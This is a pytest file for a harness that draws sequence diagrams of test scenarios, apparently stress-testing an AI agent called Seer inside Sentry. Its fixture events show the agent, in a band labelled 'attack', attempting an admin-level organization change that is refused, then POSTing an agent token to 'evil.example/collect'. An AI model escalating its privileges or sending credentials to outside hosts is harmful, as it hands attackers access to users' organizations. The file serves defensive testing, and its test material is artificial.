"""The picture of who called whom: its lanes and arrows, and that it is drawn from events alone."""

from __future__ import annotations

import json
from typing import Any

import pytest

from harness.report.diagram import describe_sequence
from harness.report.evidence import describe_run
from harness.report.sequence import Arrow, SequenceView, read_sequence, shorten
from harness.scenario.loader import load_scenarios
from harness.scenario.result import Result, Run
from harness.scenario.runner import run_scenarios
from harness.scenario.targets import InProcess
from tests.report.runs import planned, played
from tests.report.services import Play, explored
from tests.report.test_hostile import HIDDEN, HOSTILE


def view_of(result: Result) -> SequenceView:
    view = read_sequence(result)
    assert view is not None
    return view


def arrows_of(view: SequenceView) -> list[Arrow]:
    return [arrow for band in view.bands for arrow in band.arrows]


def test_a_play_of_services_is_told_in_order() -> None:
    view = view_of(explored())
    names = [lane.name for lane in view.lanes]
    assert names == ["olivia", "Seer", "Sentry", "outside"]
    told = [
        (names[one.sender], names[one.receiver], one.label, one.notes, one.times, one.outcome)
        for one in arrows_of(view)
    ]
    projects = "GET /api/0/projects/?… → 200"
    assert told == [
        ("olivia", "Sentry", "GET /auth/login/ → 200 · sign in", (), 1, "answered"),
        ("Sentry", "Seer", "POST /v1/automation/explorer/chat → 200", (), 1, "answered"),
        (
            "olivia",
            "Sentry",
            "POST /api/0/organizations/acme/seer/explorer-chat/ → 200",
            (),
            1,
            "answered",
        ),
        ("Seer", "Sentry", projects, ("● new: agent token 1",), 1, "answered"),
        ("Seer", "Sentry", projects, (), 2, "answered"),
        (
            "Seer",
            "Sentry",
            "PUT /api/0/organizations/acme/ → 403",
            ("◆ challenge org:admin org:write",),
            1,
            "refused",
        ),
        ("Seer", "outside", "POST evil.example/collect?… → no answer", (), 1, "unanswered"),
    ]
    assert [(band.index, band.action, band.role) for band in view.bands] == [
        ("1", "olivia asks", ""),
        ("2", "operator waits", "attack"),
    ]


def test_an_arrow_says_all_in_its_title_and_where_its_details_are() -> None:
    arrows = arrows_of(view_of(explored()))
    assert [one.place for one in arrows] == ["1.1", "1.2", "1.3", "2.1", "2.2", "2.4", "2.5"]
    assert arrows[0].aside
    assert arrows[0].title == "olivia to Sentry: GET /auth/login/ → 200 OK; sign in"
    assert arrows[5].title == (
        "Seer to Sentry: PUT /api/0/organizations/acme/ → 403 Forbidden;"
        " challenge org:admin org:write"
    )
    assert arrows[6].title == (
        "Seer to outside: POST evil.example/collect?token=<agent token 1> → no answer"
    )


def test_only_plays_with_more_than_a_person_and_sentry_have_one() -> None:
    assert [read_sequence(result) for result in (*played().results, *planned().results)] == [
        None
    ] * 4
    (result,) = run_scenarios(load_scenarios(["approve-and-remint"]), InProcess()).results
    lanes = [(lane.name, lane.about) for lane in view_of(result).lanes]
    assert lanes == [
        ("olivia", "olivia@example.com"),
        ("agent", "in place of Seer"),
        ("Sentry", "under test"),
    ]
    assert [one.outcome for one in arrows_of(view_of(result))].count("refused") == 2
    assert view_of(result).bands[-1].role == "after"


def test_agent_and_service_share_a_lane_beside_seer() -> None:
    play = Play()
    play.step("agent")
    play.call("agent", "sentry", "GET", "/a")
    play.call("service", "sentry", "GET", "/a")
    play.call("sentry", "seer", "GET", "/b")
    view = view_of(play.end())
    assert [lane.name for lane in view.lanes] == ["agent", "Seer", "Sentry"]
    assert [(one.sender, one.receiver, one.times) for one in arrows_of(view)] == [
        (0, 2, 1),
        (0, 2, 1),
        (2, 1, 1),
    ]
    assert view.lanes[0].about == "played by a scenario"
    assert arrows_of(view)[1].title.startswith("service to Sentry")


def test_a_person_of_the_cast_with_the_name_of_a_service_is_a_person() -> None:
    play = Play(seer="seer@example.com")
    play.step("seer")
    play.call("seer", "sentry", "GET", "/a")
    play.call("agent", "sentry", "GET", "/a")
    view = view_of(play.end())
    assert [(lane.name, lane.kind) for lane in view.lanes] == [
        ("seer", "user"),
        ("agent", "agent"),
        ("Sentry", "server"),
    ]


def test_many_people_share_the_last_lane_of_people() -> None:
    play = Play()
    play.step("agent")
    for number in range(9):
        play.call(f"user{number}", "sentry", "GET", f"/{number}")
    play.call("agent", "sentry", "GET", "/")
    view = view_of(play.end())
    assert [lane.name for lane in view.lanes] == [
        "user0",
        "user1",
        "user2",
        "user3",
        "others",
        "agent",
        "Sentry",
    ]
    assert view.lanes[4].about == "5 more"
    assert {one.sender for one in arrows_of(view)} == set(range(6))


def test_hundreds_of_requests_are_told_once_where_they_are_alike() -> None:
    play = Play()
    play.step("agent")
    for page in range(300):
        play.call("agent", "sentry", "GET", f"/list/?cursor={page}")
    play.step("agent")
    for number in range(300):
        play.call("agent", "sentry", "GET", f"/{number}/")
    view = view_of(play.end())
    first, *others = arrows_of(view)
    assert (first.label, first.times) == ("GET /list/?… → 200", 300)
    assert len(others) == 300
    data = described(view)
    assert data["count"] == 600
    assert "GET /list/?… → 200 ×300" in data["texts"]


def described(view: SequenceView) -> dict[str, Any]:
    texts: list[str] = []

    def number(text: str) -> int:
        if text not in texts:
            texts.append(text)
        return texts.index(text)

    return describe_sequence(view, number) | {"texts": texts}


def test_lanes_stand_as_far_apart_as_their_words_need() -> None:
    data = described(view_of(explored()))
    olivia, seer, sentry, outside = (lane["x"] for lane in data["lanes"])
    assert olivia < seer < sentry < outside < data["width"]
    # From olivia to Sentry there is the longest label; nothing passes from her to Seer.
    assert sentry - olivia >= 6 * len("POST /api/0/organizations/acme/seer/explorer-chat/ → 200")
    assert seer - olivia == outside - sentry == 150


@pytest.mark.parametrize("name", HOSTILE)
def test_no_text_grows_out_of_the_picture(name: str) -> None:
    text = HOSTILE[name] * 40
    play = Play(**{text: text})
    play.step(text, text, role=text)
    play.call(text, "outside", text, f"/{text}", 403, answer=(("WWW-Authenticate", text),))
    play.call("agent", "sentry", "GET", f"/{text}?{text}", purpose=text)
    view = view_of(play.end())
    data = described(view)
    assert data["width"] < 1500
    for arrow in arrows_of(view):
        assert len(arrow.label) <= 64
        assert all(len(note) <= 48 for note in arrow.notes)
        assert len(arrow.title) <= 400
    for lane in view.lanes:
        assert len(lane.name) <= 20
    for word in [one.label for one in arrows_of(view)] + [lane.name for lane in view.lanes]:
        assert "\n" not in word
    assert not HIDDEN.search(repr(view))


def test_what_is_left_out_is_before_the_end() -> None:
    assert shorten("/api/0/organizations/acme/", 26) == "/api/0/organizations/acme/"
    assert shorten("/api/0/organizations/acme/projects/", 20) == "/api/0…cme/projects/"
    assert len(shorten("x" * 100, 7)) == 7


def test_the_same_events_give_the_same_picture() -> None:
    one, two = (json.dumps(describe_run(Run("", "", [explored()]))) for _ in range(2))
    assert one == two


def test_lanes_of_the_timeline_know_who_acts() -> None:
    data = describe_run(Run("", "", [explored()]))
    (scenario,) = data["scenarios"]
    lanes = [(data["texts"][lane["name"]], lane["acts"]) for lane in scenario["lanes"]]
    assert lanes == [
        ("operator", True),
        ("olivia", True),
        ("Seer", True),
        ("Sentry", True),
        ("outside", False),
    ]
